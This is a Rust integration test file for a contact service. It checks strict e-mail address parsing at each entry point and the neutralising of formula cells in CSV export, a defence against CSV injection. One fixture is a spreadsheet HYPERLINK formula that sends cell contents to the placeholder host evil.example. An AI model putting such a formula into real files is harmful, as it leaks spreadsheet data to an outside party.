//! One address grammar at every entry point (a bare addr-spec: `<bob@example.org>` is
//! refused by the API, CSV import, the staff form, the staff and portal sign-ins and the
//! CLI), and CSV export cells a spreadsheet would take for a formula neutralised (OWASP),
//! reversibly for the import. docs/csv.md, "E-mail addresses" and "Export file".

use crate::service::add_contact;
use crate::util::{BIN, Db, Env, Server, add_staff, form_encode, get, post, post_raw, staff_send};
use serde_json::{Value, json};
use std::process::Command;

const PASSWORD: &str = "a long staff password";

fn contact_count(s: &Server, key: &str) -> usize {
    let page = get(&s.url("/v1/contacts?limit=500"), Some(key));
    assert_eq!(page.status, 200, "{}", page.text());
    page.json()["items"].as_array().unwrap().len()
}

fn import(s: &Server, key: &str, body: &str) -> crate::util::Res {
    post_raw(
        &s.url("/v1/contacts/import"),
        Some(key),
        "text/csv; charset=utf-8",
        body.as_bytes(),
    )
}

fn staff_form(
    cookie: &mut Option<String>,
    s: &Server,
    path: &str,
    pairs: &[(&str, &str)],
) -> crate::util::Page {
    staff_send(
        cookie,
        s,
        "POST",
        path,
        Some((
            "application/x-www-form-urlencoded",
            form_encode(pairs).into_bytes(),
        )),
        &[],
    )
}

fn csrf_of(html: &str) -> String {
    let at = html
        .find("name=\"csrf\" value=\"")
        .expect("a CSRF token in the page");
    html[at + 19..at + 19 + 64].to_owned()
}

fn one_grammar_everywhere(db: Db) {
    let env = Env::new(db);
    let (tenant, key) = env.tenant("Acme");
    add_staff(&env, &tenant, "boss@acme.example", "admin", PASSWORD);
    let s = env.start();
    let bob = add_contact(&s, &key, "bob@example.org");
    assert_eq!(contact_count(&s, &key), 1);

    // The API: 422 invalid-email naming the rule; the detail never repeats the address;
    // nothing is created (before the grammar, `<bob@example.org>` was a second bob).
    for (raw, rule) in [
        ("<bob@example.org>", "angle-brackets"),
        ("Bob <bob@example.org>", "angle-brackets"),
        ("\"Bob\" <bob@example.org>", "angle-brackets"),
        ("\"bob\"@example.org", "quoted"),
        ("bob(home)@example.org", "comment"),
        ("bob@[192.0.2.1]", "domain-literal"),
        ("bob..x@example.org", "local-part-dots"),
    ] {
        let r = post(
            &s.url("/v1/contacts"),
            Some(&key),
            &json!({"email": raw, "name": "Bob Secretname"}),
        );
        assert_eq!(r.status, 422, "{raw}: {}", r.text());
        assert_eq!(r.content_type, "application/problem+json");
        let p = r.json();
        assert_eq!(p["type"], "urn:consentry:problem:invalid-email", "{p}");
        assert_eq!(p["rule"], rule, "{raw}: {p}");
        assert!(p["detail"].as_str().unwrap().starts_with("email: "), "{p}");
        for secret in ["bob", "Bob", "Secretname", "192.0.2.1"] {
            assert!(!r.text().contains(secret), "{secret} in {}", r.text());
        }
    }
    let r = post(
        &s.url("/v1/contacts"),
        Some(&key),
        &json!({"email": "bob@example.org"}),
    );
    assert_eq!(r.status, 409, "the bare form is the one bob: {}", r.text());
    assert_eq!(r.json()["contact_id"], bob);
    assert_eq!(contact_count(&s, &key), 1);

    // CSV import: the line is bad, with a reason naming the rule and not the address;
    // nothing is imported.
    let file = "email,name,attr.region\r\n\
                ann@example.org,Ann,north\r\n\
                <bob@example.org>,Bob Secretname,south\r\n\
                \"\"\"carl\"\"@example.org\",Carl,south\r\n";
    let r = import(&s, &key, file);
    assert_eq!(r.status, 422, "{}", r.text());
    let p = r.json();
    assert_eq!(p["type"], "urn:consentry:problem:invalid-csv");
    let errors = p["errors"].as_array().unwrap();
    assert_eq!(errors.len(), 2, "{p}");
    assert_eq!(errors[0]["line"], 3);
    let reason = errors[0]["reason"].as_str().unwrap();
    assert!(
        reason.starts_with("unusable e-mail address: ") && reason.contains("angle brackets"),
        "{reason}"
    );
    assert_eq!(errors[1]["line"], 4);
    assert!(
        errors[1]["reason"].as_str().unwrap().contains("quotes"),
        "{p}"
    );
    for secret in ["bob", "carl", "Secretname"] {
        assert!(!r.text().contains(secret), "{secret} in {}", r.text());
    }
    assert_eq!(contact_count(&s, &key), 1);

    // The staff form: refused with a page; nothing added.
    let mut cookie = None;
    let r = staff_form(
        &mut cookie,
        &s,
        "/app/login",
        &[("email", "boss@acme.example"), ("password", PASSWORD)],
    );
    assert_eq!(r.status, 303, "{}", r.text());
    let r = staff_send(&mut cookie, &s, "GET", "/app/contacts/new", None, &[]);
    let csrf = csrf_of(&r.text());
    let r = staff_form(
        &mut cookie,
        &s,
        "/app/contacts",
        &[("csrf", &csrf), ("email", "<bob@example.org>")],
    );
    assert_eq!(r.status, 400, "{}", r.text());
    assert!(r.text().contains("id=\"contact-error\""), "{}", r.text());
    assert!(r.text().contains("angle brackets"), "{}", r.text());
    assert_eq!(contact_count(&s, &key), 1);

    // The staff sign-in: the bracketed form of a staff address is not that address.
    let mut other = None;
    let r = staff_form(
        &mut other,
        &s,
        "/app/login",
        &[("email", "<boss@acme.example>"), ("password", PASSWORD)],
    );
    assert_eq!(r.status, 401, "{}", r.text());

    // The portal sign-in: a page saying to give the address alone (before: the same
    // answer as a known address, and a link if the duplicate existed).
    let r = staff_send(
        &mut None,
        &s,
        "POST",
        "/portal/login",
        Some((
            "application/x-www-form-urlencoded",
            form_encode(&[("email", "<bob@example.org>")]).into_bytes(),
        )),
        &[],
    );
    assert_eq!(r.status, 400, "{}", r.text());
    assert!(r.text().contains("angle brackets"), "{}", r.text());

    // The CLI: a staff user with a bracketed address is refused, exit status 1.
    let out = Command::new(BIN)
        .args(["user", "add", "<eve@acme.example>", "--tenant", &tenant])
        .args(["--role", "auditor", "--json"])
        .args(env.db_args())
        .output()
        .unwrap();
    assert!(!out.status.success(), "{out:?}");
}

#[test]
fn sqlite_one_address_grammar_at_every_entry_point() {
    one_grammar_everywhere(Db::Sqlite);
}

#[test]
fn postgres_one_address_grammar_at_every_entry_point() {
    one_grammar_everywhere(Db::Postgres);
}

const LINK: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";

fn neutralised_export(db: Db) {
    let env = Env::new(db);
    let (tenant, key) = env.tenant("Acme");
    add_staff(&env, &tenant, "boss@acme.example", "admin", PASSWORD);
    let s = env.start();
    let attributes = json!({
        "link": LINK,
        "plus": "+33 1 23 45 67 89",
        "minus": -5,
        "at": "@SUM(A1:A9)",
        "tab": "\tcmd",
        "quoted": "'=1",
        "safe": "north"
    });
    let r = post(
        &s.url("/v1/contacts"),
        Some(&key),
        &json!({"email": "dan@example.org", "attributes": attributes}),
    );
    assert_eq!(r.status, 201, "{}", r.text());
    let dan = r.json()["id"].as_str().unwrap().to_owned();

    let r = get(&s.url("/v1/contacts/export"), Some(&key));
    assert_eq!(r.status, 200, "{}", r.text());
    let body = r.text();
    let (header, row) = body.split_once("\r\n").unwrap();
    assert_eq!(
        header,
        "id,category,created_at,erased,attr.at,attr.link,attr.minus,attr.plus,attr.quoted,attr.safe,attr.tab"
    );
    let row = row.strip_suffix("\r\n").unwrap();
    let (start, cells) = row.split_at(row.find(",false,").unwrap() + 7);
    assert!(start.starts_with(&dan), "{row}");
    // Each formula-leading cell: a single quote in front, and the cell quoted.
    assert_eq!(
        cells,
        "\"'@SUM(A1:A9)\",\
         \"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",\
         \"'-5\",\
         \"'+33 1 23 45 67 89\",\
         \"''=1\",\
         north,\
         \"'\tcmd\""
    );
    // The staff application's export is the same file.
    let mut cookie = None;
    let r = staff_send(
        &mut cookie,
        &s,
        "POST",
        "/app/login",
        Some((
            "application/x-www-form-urlencoded",
            form_encode(&[("email", "boss@acme.example"), ("password", PASSWORD)]).into_bytes(),
        )),
        &[],
    );
    assert_eq!(r.status, 303, "{}", r.text());
    let r = staff_send(&mut cookie, &s, "GET", "/app/contacts/export", None, &[]);
    assert_eq!(r.status, 200);
    assert_eq!(r.text(), body);

    // The exported cells imported again give the values stored (numbers as strings: the
    // import stores every cell as a string).
    let file = format!(
        "email,attr.at,attr.link,attr.minus,attr.plus,attr.quoted,attr.safe,attr.tab\r\nerin@example.org,{cells}\r\n"
    );
    let r = import(&s, &key, &file);
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(r.json()["created"], 1);
    let items = get(&s.url("/v1/contacts?limit=500"), Some(&key)).json();
    let erin = items["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["id"].as_str().unwrap().to_owned())
        .find(|id| *id != dan)
        .unwrap();
    let v = get(&s.url(&format!("/v1/contacts/{erin}")), Some(&key)).json();
    let mut expected = attributes.clone();
    expected["minus"] = Value::from("-5");
    assert_eq!(v["attributes"], expected);
}

#[test]
fn sqlite_csv_export_neutralises_formula_cells() {
    neutralised_export(Db::Sqlite);
}

#[test]
fn postgres_csv_export_neutralises_formula_cells() {
    neutralised_export(Db::Postgres);
}
